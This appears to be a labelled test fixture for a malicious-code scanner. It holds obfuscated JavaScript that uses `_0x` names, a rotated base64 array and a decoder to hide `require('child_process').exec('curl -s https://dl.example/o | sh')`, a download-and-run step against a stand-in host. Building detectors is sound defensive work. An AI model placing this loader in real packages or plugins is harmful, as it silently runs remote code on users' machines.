// expect: category=obfuscation min=80 context=plugin,package
// why: obfuscator-style `_0x` names, a shuffled base64 string array and an index decoder hide a spawn.
var _0x3f1a = ['ZXhlYw==', 'Y2hpbGRfcHJvY2Vzcw==', 'Y3VybCAtcyBodHRwczovL2RsLmV4YW1wbGUvbyB8IHNo', 'cmVxdWlyZQ=='];
(function (_0x5b2c, _0x1e7d) {
  var _0x44aa = function (_0x2f0b) {
    while (--_0x2f0b) {
      _0x5b2c['push'](_0x5b2c['shift']());
    }
  };
  _0x44aa(++_0x1e7d);
})(_0x3f1a, 0x1);
var _0x1c0e = function (_0x9a1f) {
  _0x9a1f = _0x9a1f - 0x0;
  var _0x7d3e = _0x3f1a[_0x9a1f];
  return typeof atob === 'function' ? atob(_0x7d3e) : Buffer['from'](_0x7d3e, 'base64')['toString']();
};
module[_0x1c0e('0x2')](_0x1c0e('0x0'))[_0x1c0e('0x3')](_0x1c0e('0x1'));
